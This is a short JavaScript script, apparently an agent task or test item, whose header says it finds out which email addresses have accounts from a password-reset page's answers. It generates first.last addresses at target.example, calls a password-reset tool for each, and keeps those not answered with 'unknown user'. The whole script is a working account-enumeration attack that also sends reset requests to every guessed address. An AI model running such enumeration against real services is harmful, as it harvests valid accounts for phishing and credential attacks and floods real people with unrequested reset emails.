/*---
domain = "mail"
why = "Finds out which addresses have accounts by the answers of the reset page."
---*/
const firsts = ["anna", "ben", "carla", "david", "eva", "felix", "gina", "henry"];
const lasts = ["smith", "jones", "meyer", "rossi", "novak", "silva"];
const exists = [];
for (const f of firsts) {
  for (const l of lasts) {
    const email = `${f}.${l}@target.example`;
    const answer = await callTool("auth_password_reset", { email });
    if (answer.message !== "unknown user") exists.push(email);
  }
}
return exists;
